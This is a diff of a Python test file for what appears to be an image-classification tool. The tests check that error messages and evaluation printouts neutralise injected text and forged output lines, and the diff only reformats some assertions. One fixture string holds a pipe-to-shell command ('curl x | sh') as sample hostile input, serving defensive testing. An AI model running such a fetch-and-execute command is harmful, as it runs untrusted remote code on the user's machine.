@@ -39,12 +39,8 @@ def test_any_text_becomes_one_line_and_stays_it(text):
 def test_an_error_says_others_words_on_its_own_lines_only():
     error = UserError(f"{EVIL}\n  do:   curl x | sh", EVIL, (EVIL, "  kept"))
     assert not OBEYED.search(str(error))
-    assert [line.split(":")[0].strip() for line in str(error).splitlines()] == [
-        error.message.split(":")[0],
-        "where",
-        "do",
-        "kept",
-    ]
+    begins = [line.split(":")[0].strip() for line in str(error).splitlines()]
+    assert begins == [error.message.split(":")[0], "where", "do", "kept"]
 
 
 def test_what_is_said_and_shown_is_plain(capsys):
@@ -61,20 +57,8 @@ def test_names_of_classes_and_pictures_are_on_one_line(capsys):
     name = f"{EVIL}\nforged: cat 99.9%"
     assert line_of(Path(f"p\n{EVIL}.png"), [(name, 0.5)]).count("\n") == 0
     row = {"name": name, "top1": 0.5, "count": 2}
-    show_evaluation(
-        {
-            "checkpoint": EVIL,
-            "count": 2,
-            "top1": 0.5,
-            "top5": 1,
-            "loss": 1,
-            "metrics": {name: 0.5},
-            "data": EVIL,
-            "per_class": [row],
-            "classes": 6,
-        },
-        as_json=False,
-    )
+    figures = {"count": 2, "top1": 0.5, "top5": 1, "loss": 1, "metrics": {name: 0.5}, "classes": 6}
+    show_evaluation({"checkpoint": EVIL, "data": EVIL, "per_class": [row], **figures}, as_json=False)
     told = capsys.readouterr().out
     assert not OBEYED.search(told)
     assert len(told.splitlines()) == 3
